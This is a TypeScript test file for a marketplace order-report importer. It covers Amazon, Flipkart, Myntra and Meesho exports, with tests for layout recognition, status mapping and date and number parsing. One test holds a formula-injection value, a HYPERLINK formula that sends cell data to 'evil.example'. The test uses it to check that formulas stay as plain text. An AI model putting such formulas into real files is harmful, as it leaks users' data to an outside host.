import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { orderReport, type OrderColumnMapping } from './order-report-layouts';
import { toImportLines } from './order-report-lines';
import { previewRows } from './order-report-preview';
import { readOrderReportRows } from './order-report-read';
import { chunkLines, countOutcomes, LINES_PER_CALL, newLines } from './report-import';
import * as layouts from './report-layouts';
import { columnDateOrder, readKnownReportHeaders, readReportHeaders, ReportFileError } from './report-read';
import { isFulfilledStatus, normalizeOrderDate, parseReportNumber } from './order-report-values';

const recognizeLayout = (headers: readonly string[]) => layouts.recognizeLayout(orderReport, headers);
const mappingFits = (mapping: OrderColumnMapping, headers: readonly string[]) =>
  layouts.mappingFits(orderReport, mapping, headers);
const loadRememberedMapping = (platform: string) => layouts.loadRememberedMapping(orderReport, platform);
const rememberMapping = (platform: string, mapping: OrderColumnMapping) =>
  layouts.rememberMapping(orderReport, platform, mapping);

const amazonReport = readFileSync(path.join(import.meta.dirname, '__fixtures__/amazon-order-report.txt'), 'utf8');

/** Reads a report the way the import dialog does: headers, recognised layout, rows. */
async function readReport(text: string, mapping?: OrderColumnMapping) {
  const headers = await readReportHeaders(text);
  const recognized = recognizeLayout(headers);
  const used = mapping ?? recognized?.mapping ?? layouts.emptyMapping(orderReport);
  // As the dialog does: the file's own dates say day or month first.
  const dateOrder = await columnDateOrder(text, used.order_date);
  const rows = await readOrderReportRows(text, used, 1, undefined, { dateOrder, layout: recognized?.layout });
  return { headers, recognized, rows };
}

describe('Amazon order report (tab-delimited)', () => {
  it('is recognised by its headers and mapped without asking', async () => {
    const { recognized } = await readReport(amazonReport);
    expect(recognized?.layout.platform).toBe('Amazon');
    expect(recognized?.mapping).toEqual({
      external_order_id: 'amazon-order-id',
      order_date: 'purchase-date',
      sku: 'sku',
      quantity: 'quantity',
      total_amount: 'item-price',
      // The line's own status, not the order's: a line cancelled inside a shipped order is no sale.
      status: 'item-status',
      buyer_state: null,
    });
  });

  it("reads the buyer's state from ship-state as the report writes it, for the database to read; an empty cell is none", async () => {
    const withState = amazonReport
      .replace('\tshipping-price', '\tshipping-price\tship-state')
      .split('\n')
      .map((line, index) => (index === 0 || line === '' ? line : `${line}\t${index === 1 ? ' MAHARASHTRA ' : ''}`))
      .join('\n');
    const { recognized, rows } = await readReport(withState);
    expect(recognized?.mapping.buyer_state).toBe('ship-state');
    const { lines } = toImportLines(rows);
    expect(lines[0]?.buyer_state).toBe('MAHARASHTRA');
    expect(lines[1]?.buyer_state).toBeNull();
  });

  it('keeps an order that spans several lines as one line per SKU, item-price as the line total', async () => {
    const { rows } = await readReport(amazonReport);
    const { lines } = toImportLines(rows);
    expect(lines.slice(0, 2)).toEqual([
      {
        line: 2,
        external_order_id: '402-1111111-1111111',
        order_date: '2026-01-05T10:30:00+00:00',
        sku: 'KURTA-BLU',
        quantity: 2,
        total_amount: 1198,
        status: 'Fulfilled',
        buyer_state: null,
      },
      {
        line: 3,
        external_order_id: '402-1111111-1111111',
        order_date: '2026-01-05T10:30:00+00:00',
        sku: 'DUP-RED',
        quantity: 1,
        total_amount: 499.5,
        status: 'Fulfilled',
        buyer_state: null,
      },
    ]);
  });

  it('sends a Shipped line as Fulfilled and a Pending one as Unfulfilled', async () => {
    const { rows } = await readReport(amazonReport);
    expect(toImportLines(rows).lines.map((line) => [line.external_order_id, line.status])).toEqual([
      ['402-1111111-1111111', 'Fulfilled'],
      ['402-1111111-1111111', 'Fulfilled'],
      ['402-3333333-3333333', 'Unfulfilled'],
      ['402-4444444-4444444', 'Fulfilled'],
    ]);
  });

  it('leaves cancelled rows out of the lines sent, and says they are cancelled', async () => {
    const { rows } = await readReport(amazonReport);
    expect(rows.find((row) => row.line === 4)).toMatchObject({ status: 'Cancelled', cancelled: true });
    expect(toImportLines(rows).lines.map((line) => line.line)).toEqual([2, 3, 5, 6]);
  });

  it('accepts quantity-purchased for quantity', async () => {
    const report = amazonReport.replace('\tquantity\t', '\tquantity-purchased\t');
    const { recognized, rows } = await readReport(report);
    expect(recognized?.mapping.quantity).toBe('quantity-purchased');
    expect(rows[0]?.quantity).toBe(2);
  });
});

describe('Flipkart and Myntra exports', () => {
  const flipkartOrders = [
    'Ordered On,Shipment ID,ORDER ITEM ID,Order Id,Order State,Order Type,FSN,SKU,Product,Invoice No.,Invoice Amount,Quantity',
    '15-01-2026 10:20:30,SH1,OI-1,OD1234567890,Delivered,Prepaid,FSN1,KURTA-BLU,"Cotton Kurta, Blue (L)",INV1,"1,299.00",1',
    '16/01/2026,SH2,OI-2,OD1234567891,Cancelled,COD,FSN1,KURTA-BLU,"Cotton Kurta, Blue (M)",INV2,"1,299.00",1',
  ].join('\n');

  it("recognises Flipkart's orders export: quoted commas stay inside their cell, Indian dates are day first", async () => {
    const { recognized, rows } = await readReport(flipkartOrders);
    expect(recognized?.layout.platform).toBe('Flipkart');
    expect(recognized?.layout.name).toBe('Flipkart orders export');
    // Flipkart's Order State is the order's status, never read as the buyer's state.
    expect(recognized?.mapping).toMatchObject({ status: 'Order State', buyer_state: null });
    expect(rows[0]).toMatchObject({
      external_order_id: 'OD1234567890',
      order_date: '2026-01-15T10:20:30+05:30',
      sku: 'KURTA-BLU',
      quantity: 1,
      total_amount: 1299,
      cancelled: false,
      unreadable: null,
    });
    expect(rows[1]).toMatchObject({ order_date: '2026-01-16', cancelled: true });
  });

  it("recognises Flipkart's sales report by its Gross Units and Final Selling Price", async () => {
    const report = [
      'Order ID,Order Date,SKU,SKU Name,Gross Units,Final Selling Price (incl. seller opted in default offers),Order Status',
      'OD999,2026-02-01,DUP-RED,Silk Dupatta,3,1498.50,Delivered',
    ].join('\n');
    const { recognized, rows } = await readReport(report);
    expect(recognized?.layout.name).toBe('Flipkart sales report');
    expect(rows[0]).toMatchObject({ quantity: 3, total_amount: 1498.5, order_date: '2026-02-01' });
  });

  it("recognises Myntra's seller orders report: one row per unit, folded into one line per order and SKU", async () => {
    const report = [
      'order release id,order line id,seller order id,created on,seller sku code,myntra sku code,order status,final amount,total mrp,city,state',
      '7001,L1,S1,2026-03-01 11:00:00,KURTA-BLU,M1,C,649.50,999,Bengaluru,Karnataka',
      '7001,L2,S1,2026-03-01 11:00:00,KURTA-BLU,M1,C,649.60,999,Bengaluru,Karnataka',
      '7002,L3,S2,2026-03-02 12:00:00,DUP-RED,M2,F,300,500,Chennai,Tamil Nadu',
    ].join('\n');
    const { recognized, rows } = await readReport(report);
    expect(recognized?.layout.platform).toBe('Myntra');
    expect(recognized?.mapping.quantity).toBeNull();
    const { lines, mergedInto } = toImportLines(rows);
    expect(lines).toEqual([
      {
        line: 2,
        external_order_id: '7001',
        order_date: '2026-03-01T11:00:00+05:30',
        sku: 'KURTA-BLU',
        quantity: 2,
        total_amount: 1299.1,
        status: 'Fulfilled',
        buyer_state: 'Karnataka',
      },
    ]);
    expect(mergedInto.get(3)).toBe(2);
    expect(rows[2]?.cancelled).toBe(true);
  });

  it('a file of another platform is recognised as that platform, and an unknown layout is not guessed', async () => {
    expect((await readReport(flipkartOrders)).recognized?.layout.platform).not.toBe('Amazon');
    const unknown = 'Invoice,When,Item,Units,Paid\nA-1,2026-01-01,KURTA-BLU,1,100';
    expect((await readReport(unknown)).recognized).toBeNull();
  });
});

describe('column mapping by hand', () => {
  afterEach(() => localStorage.clear());
  const headers = ['Invoice', 'When', 'Item', 'Units', 'Paid', 'State'];
  const mapping: OrderColumnMapping = {
    external_order_id: 'Invoice',
    order_date: 'When',
    sku: 'Item',
    quantity: 'Units',
    total_amount: 'Paid',
    status: 'State',
    buyer_state: null,
  };

  it('is remembered per platform and fits only a file with those columns', () => {
    rememberMapping('Other', mapping);
    expect(loadRememberedMapping('Other')).toEqual(mapping);
    expect(loadRememberedMapping('Flipkart')).toBeNull();
    expect(mappingFits(mapping, headers)).toBe(true);
    expect(mappingFits(mapping, headers.slice(0, 4))).toBe(false);
    expect(mappingFits({ ...mapping, sku: null }, headers)).toBe(false);
    expect(mappingFits({ ...mapping, status: null, quantity: null }, headers)).toBe(true);
  });

  it('reads the mapped columns of any file', async () => {
    const { rows } = await readReport(
      'Invoice,When,Item,Units,Paid,State\nA-1,05 Jan 2026,KURTA-BLU,3,₹ 450,ok',
      mapping,
    );
    expect(rows).toEqual([
      {
        line: 2,
        external_order_id: 'A-1',
        order_date: '2026-01-05',
        sku: 'KURTA-BLU',
        quantity: 3,
        total_amount: 450,
        status: 'ok',
        cancelled: false,
        fulfilled: false,
        buyer_state: null,
        unreadable: null,
      },
    ]);
  });

  it('ignores a remembered mapping the browser kept in another shape', () => {
    localStorage.setItem('factoryflow:order-import-mapping:Amazon', '{"sku": 5, "order_date": "x"');
    expect(loadRememberedMapping('Amazon')).toBeNull();
  });
});

describe('awkward files', () => {
  it('a UTF-8 byte order mark and CRLF line ends change nothing', async () => {
    const report = `\uFEFF${amazonReport.replace(/\n/g, '\r\n')}`;
    const { headers, recognized, rows } = await readReport(report);
    expect(headers[0]).toBe('amazon-order-id');
    expect(recognized?.layout.platform).toBe('Amazon');
    expect(rows[0]).toMatchObject({ external_order_id: '402-1111111-1111111', total_amount: 1198 });
    expect(rows.at(-1)?.total_amount).toBe(100);
  });

  it('a File goes through the same reader', async () => {
    const file = new File([`\uFEFF${amazonReport}`], 'report.txt', { type: 'text/plain' });
    expect(recognizeLayout(await readReportHeaders(file))?.layout.platform).toBe('Amazon');
  });

  it('an empty file is refused with a sentence; a header alone has no rows', async () => {
    await expect(readKnownReportHeaders(orderReport, '')).rejects.toThrow(new ReportFileError('The file is empty.'));
    await expect(readKnownReportHeaders(orderReport, '\n\n')).rejects.toThrow('The file is empty.');
    expect((await readReport(amazonReport.split('\n')[0]!)).rows).toEqual([]);
  });

  it('a header naming a column twice is refused', async () => {
    await expect(readKnownReportHeaders(orderReport, 'sku,sku,quantity\n1,2,3')).rejects.toThrow(
      'The first row names a column twice; it must name each column once.',
    );
    // Empty cells are separator columns, not a name given twice.
    const separated = await readKnownReportHeaders(orderReport, 'order id,,sku,,quantity\nA-1,,K,,2');
    expect(separated).toMatchObject({ headerRow: 1, recognized: null });
  });

  it('malformed rows are marked unreadable, not guessed at, and the rest still read', async () => {
    const report = [
      'Order Id,Ordered On,SKU,Quantity,Invoice Amount,Order State',
      'OD1,2026-01-01,KURTA-BLU,1,100,Delivered',
      'OD2,2026-01-02,KURTA-BLU',
      'OD3,2026-01-03,"KURTA-BLU,1,100,Delivered',
    ].join('\n');
    const { rows } = await readReport(report);
    expect(rows[0]?.unreadable).toBeNull();
    expect(rows[1]?.unreadable).toBe('This row has 3 columns; the mapped columns need 6.');
    expect(rows[2]?.unreadable).toBe('This row has a quotation mark that is never closed.');
    expect(toImportLines(rows).lines.map((line) => line.line)).toEqual([2]);
  });

  it('formulas in cells are text: =HYPERLINK(...) is kept as written and never evaluated', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const report = `Order Id,Ordered On,SKU,Quantity,Invoice Amount\n"${formula.replace(/"/g, '""')}",2026-01-01,=1+1,1,@SUM(1)`;
    const { rows } = await readReport(report);
    expect(rows[0]).toMatchObject({ external_order_id: formula, sku: '=1+1', total_amount: '@SUM(1)' });
  });

  it('reads a 50 MB report in one pass', { timeout: 60_000 }, async () => {
    const header = amazonReport.split('\n')[0]!;
    const row = (n: number) =>
      `402-${String(n).padStart(7, '0')}-0000001\t\t2026-01-05T10:30:00+00:00\t2026-01-06T08:00:00+00:00\tShipped\tMerchant\tAmazon.in\tCotton Kurta, Blue, a long product name as Amazon writes them\tKURTA-${n % 50}\tB0KURTA001\tShipped\t1\tINR\t${(n % 1000) + 0.5}\t10.00\t0.00`;
    const parts = [header];
    let size = header.length;
    let count = 0;
    while (size < 50 * 1024 * 1024) {
      const next = row(count);
      parts.push(next);
      size += next.length + 1;
      count += 1;
    }
    const { rows } = await readReport(parts.join('\n'));
    expect(rows).toHaveLength(count);
    expect(rows.at(-1)).toMatchObject({
      line: count + 1,
      sku: `KURTA-${(count - 1) % 50}`,
      total_amount: ((count - 1) % 1000) + 0.5,
    });
    expect(chunkLines(toImportLines(rows).lines).map((chunk) => chunk.length)).toEqual([
      ...Array<number>(Math.floor(count / LINES_PER_CALL)).fill(LINES_PER_CALL),
      count % LINES_PER_CALL,
    ]);
  });
});

describe('the preview', () => {
  it("gives every row an outcome: the reader's for cancelled and unreadable rows, the server's for the rest", async () => {
    const report = [
      'order release id,created on,seller sku code,order status,final amount',
      '7001,2026-03-01,KURTA-BLU,C,649.50',
      '7001,2026-03-01,KURTA-BLU,C,649.50',
      '7002,2026-03-02,DUP-RED,F,300',
      '7003,2026-03-02,"DUP-RED,C,300',
    ].join('\n');
    const { rows } = await readReport(report);
    const lines = toImportLines(rows);
    const previews = new Map([
      [2, { outcome: 'new' as const, message: null, productName: 'Cotton Kurta', status: 'Fulfilled' as const }],
    ]);
    const preview = previewRows(rows, lines, previews);
    expect(preview.map((row) => [row.line, row.outcome, row.message])).toEqual([
      [2, 'new', 'Imports as Fulfilled (report status: C).'],
      [3, 'new', 'Added to row 2 (same order and SKU). Imports as Fulfilled (report status: C).'],
      [4, 'cancelled', null],
      [5, 'unreadable', 'This row has a quotation mark that is never closed.'],
    ]);
    expect(countOutcomes(preview)).toEqual({ new: 2, cancelled: 1, unreadable: 1 });
    expect(newLines(lines.lines, previews)).toEqual([
      expect.objectContaining({ line: 2, quantity: 2, total_amount: 1299 }),
    ]);
  });
});

describe('report statuses', () => {
  it("reads each marketplace's words for shipped or delivered as Fulfilled, in any case", () => {
    for (const status of [
      'Shipped',
      'Shipped - Delivered to Buyer',
      'shipped - out for delivery',
      'Shipped - Picked Up',
    ]) {
      expect(isFulfilledStatus(status)).toBe(true);
    }
    for (const status of ['SHIPPED', 'DELIVERED', 'PICKUP_COMPLETE', 'Pickup Complete', 'COMPLETED', 'Delivered']) {
      expect(isFulfilledStatus(status)).toBe(true);
    }
    for (const status of ['SH', 'DL', 'C', ' dl ']) expect(isFulfilledStatus(status)).toBe(true);
  });

  it('leaves lines not yet handed over, on their way back, lost or cancelled Unfulfilled', () => {
    for (const status of [
      'Pending',
      'Pending - Waiting for Pick Up',
      'Unshipped',
      'Shipping',
      'Shipped - Returned to Seller',
      'Shipped - Returning to Seller',
      'Shipped - Rejected by Buyer',
      'Shipped - Lost in Transit',
      'Shipped - Damaged',
      'APPROVED',
      'PACKED',
      'READY_TO_DISPATCH',
      'RETURN_REQUESTED',
      'RETURNED',
      'CANCELLED',
      'RTO',
      'WP',
      'F',
      '',
    ]) {
      expect(isFulfilledStatus(status)).toBe(false);
    }
  });

  it('folds a Myntra order of shipped and unshipped units into one Unfulfilled line', async () => {
    const report = [
      'order release id,created on,seller sku code,order status,final amount',
      '7001,2026-03-01,KURTA-BLU,SH,649.50',
      '7001,2026-03-01,KURTA-BLU,PK,649.50',
      '7002,2026-03-01,KURTA-BLU,DL,649.50',
      '7002,2026-03-01,KURTA-BLU,DL,649.50',
    ].join('\n');
    const { rows } = await readReport(report);
    expect(toImportLines(rows).lines.map((line) => [line.external_order_id, line.quantity, line.status])).toEqual([
      ['7001', 2, 'Unfulfilled'],
      ['7002', 2, 'Fulfilled'],
    ]);
  });
});

describe('cell values', () => {
  it('numbers as reports write them, and text that is not one is kept for the server to refuse', () => {
    expect(parseReportNumber('1,299.00')).toBe(1299);
    expect(parseReportNumber(' ₹ 499.5 ')).toBe(499.5);
    expect(parseReportNumber('INR 10')).toBe(10);
    expect(parseReportNumber('2.5')).toBe(2.5);
    expect(parseReportNumber('-3')).toBe(-3);
    expect(parseReportNumber('')).toBeNull();
    expect(parseReportNumber('two')).toBe('two');
    expect(parseReportNumber('1e3')).toBe('1e3');
  });

  it('dates become ISO 8601, in India’s time when the report gives no zone', () => {
    expect(normalizeOrderDate('2026-01-05T10:30:00+00:00')).toBe('2026-01-05T10:30:00+00:00');
    expect(normalizeOrderDate('2026-01-05T10:30:00Z')).toBe('2026-01-05T10:30:00+00:00');
    expect(normalizeOrderDate('2026-01-05T10:30:00-0800')).toBe('2026-01-05T10:30:00-08:00');
    expect(normalizeOrderDate('2026-01-05 10:30')).toBe('2026-01-05T10:30:00+05:30');
    expect(normalizeOrderDate('2026-01-05')).toBe('2026-01-05');
    expect(normalizeOrderDate('05/01/2026 4:05 pm')).toBe('2026-01-05T16:05:00+05:30');
    expect(normalizeOrderDate('5-Jan-2026')).toBe('2026-01-05');
    expect(normalizeOrderDate('Jan 5, 2026 10:00:00')).toBe('2026-01-05T10:00:00+05:30');
    expect(normalizeOrderDate('yesterday')).toBe('yesterday');
  });
});

describe('Meesho orders report (issue 43)', () => {
  // The header of Meesho's real Orders download (tests/fixtures/real/meesho), invented rows:
  // Meesho's own spelling "Commision", a unit's price, statuses in Reason for Credit Entry.
  const meeshoOrders = [
    'Reason for Credit Entry,Sub Order No,Order Date,Customer State,Product Name,SKU,Size,Quantity,Supplier Listed Price (Incl. GST + Commission),Supplier Discounted Price (Incl GST and Commision),Packet Id',
    'DELIVERED,184337885113119297_1,2025-08-05,Bihar,Cotton Saree,SAREE-BLU,Free Size,1,499,461,P1',
    'SHIPPED,193792086759207936_1,2025-08-31,Gujarat,Cotton Saree,SAREE-BLU,Free Size,2,499,450.50,P2',
    'CANCELLED,193792086759207937_1,2025-08-31,Gujarat,Cotton Saree,SAREE-BLU,Free Size,1,499,461,P3',
    'RTO_COMPLETE,193792086759207938_1,2025-08-30,Delhi,Cotton Saree,SAREE-BLU,Free Size,1,499,461,P4',
    'READY_TO_SHIP,193792086759207939_1,2025-08-30,Delhi,Cotton Saree,SAREE-BLU,Free Size,1,499,461,P5',
  ].join('\n');

  it('is recognised as Meesho by its headers and mapped without asking', async () => {
    const { recognized } = await readReport(meeshoOrders);
    expect(recognized?.layout.platform).toBe('Meesho');
    expect(recognized?.mapping).toEqual({
      external_order_id: 'Sub Order No',
      order_date: 'Order Date',
      sku: 'SKU',
      quantity: 'Quantity',
      total_amount: 'Supplier Discounted Price (Incl GST and Commision)',
      status: 'Reason for Credit Entry',
      buyer_state: 'Customer State',
    });
  });

  it('makes each sub order a line of price × quantity; shipped and delivered Fulfilled, RTO and not shipped Unfulfilled, cancelled skipped', async () => {
    const { rows } = await readReport(meeshoOrders);
    expect(rows[2]?.cancelled).toBe(true);
    expect(toImportLines(rows).lines).toEqual([
      {
        line: 2,
        external_order_id: '184337885113119297_1',
        order_date: '2025-08-05',
        sku: 'SAREE-BLU',
        quantity: 1,
        total_amount: 461,
        status: 'Fulfilled',
        buyer_state: 'Bihar',
      },
      expect.objectContaining({ line: 3, quantity: 2, total_amount: 901, status: 'Fulfilled', buyer_state: 'Gujarat' }),
      expect.objectContaining({ line: 5, total_amount: 461, status: 'Unfulfilled' }),
      expect.objectContaining({ line: 6, total_amount: 461, status: 'Unfulfilled' }),
    ]);
  });

  it('reads Meesho’s shipped, delivered and exchanged-at-the-door words as Fulfilled', () => {
    for (const status of ['SHIPPED', 'DELIVERED', 'DOOR_STEP_EXCHANGED', 'door_step_exchanged']) {
      expect(isFulfilledStatus(status)).toBe(true);
    }
    for (const status of ['RTO_COMPLETE', 'RTO_LOCKED', 'RTO_OFD', 'READY_TO_SHIP', 'PENDING']) {
      expect(isFulfilledStatus(status)).toBe(false);
    }
  });
});

describe("Myntra's snake_case orders download (issue 43)", () => {
  it('is read as the spaced one: order_release_id the order id, one row per unit', async () => {
    const report = [
      'seller_id,warehouse_id,po_type,store_order_id,order_release_id,order_line_id,seller_order_id,created_on,order_status,seller_sku_code,myntra_sku_code,final_amount,total_mrp,city,state',
      '101,W1,PO,S-1,7001,L1,SO-1,2026-03-01 11:00:00,C,KURTA-BLU,M1,649.50,999,Bengaluru,Karnataka',
      '101,W1,PO,S-1,7001,L2,SO-1,2026-03-01 11:00:00,C,KURTA-BLU,M1,649.60,999,Bengaluru,Karnataka',
      '101,W1,PO,S-2,7002,L3,SO-2,2026-03-02 12:00:00,F,DUP-RED,M2,300,500,Chennai,Tamil Nadu',
    ].join('\n');
    const { recognized, rows } = await readReport(report);
    expect(recognized?.layout.name).toBe('Myntra seller orders report');
    expect(recognized?.mapping).toMatchObject({
      external_order_id: 'order_release_id',
      order_date: 'created_on',
      sku: 'seller_sku_code',
      quantity: null,
      total_amount: 'final_amount',
      status: 'order_status',
      buyer_state: 'state',
    });
    expect(
      toImportLines(rows).lines.map((line) => [line.external_order_id, line.quantity, line.total_amount, line.status]),
    ).toEqual([['7001', 2, 1299.1, 'Fulfilled']]);
    expect(rows[2]?.cancelled).toBe(true);
  });
});

describe("dates read as the file's own dates show (issue 43)", () => {
  const mapping: OrderColumnMapping = {
    external_order_id: 'Order',
    order_date: 'Date',
    sku: 'SKU',
    quantity: 'Qty',
    total_amount: 'Amount',
    status: null,
    buyer_state: null,
  };

  it('month first when a second number is above 12, day first when a first one is', async () => {
    const monthFirst = 'Order,Date,SKU,Qty,Amount\nA-1,04/30/2026,KURTA-BLU,1,100\nA-2,05/03/2026,KURTA-BLU,1,100';
    expect(await columnDateOrder(monthFirst, 'Date')).toBe('month_first');
    expect((await readReport(monthFirst, mapping)).rows.map((row) => row.order_date)).toEqual([
      '2026-04-30',
      '2026-05-03',
    ]);
    const dayFirst = 'Order,Date,SKU,Qty,Amount\nA-1,30/04/2026,KURTA-BLU,1,100\nA-2,05/03/2026,KURTA-BLU,1,100';
    expect(await columnDateOrder(dayFirst, 'Date')).toBe('day_first');
    expect((await readReport(dayFirst, mapping)).rows.map((row) => row.order_date)).toEqual([
      '2026-04-30',
      '2026-03-05',
    ]);
  });

  it('undecided when every number is 12 or less, or the dates disagree: the dialog asks', async () => {
    expect(await columnDateOrder('Order,Date\nA-1,05/03/2026\nA-2,04/01/2026', 'Date')).toBeNull();
    expect(await columnDateOrder('Order,Date\nA-1,13/03/2026\nA-2,03/13/2026', 'Date')).toBeNull();
    expect(normalizeOrderDate('05/03/2026', false)).toBe('2026-05-03');
    expect(normalizeOrderDate('05/03/2026')).toBe('2026-03-05');
  });
});
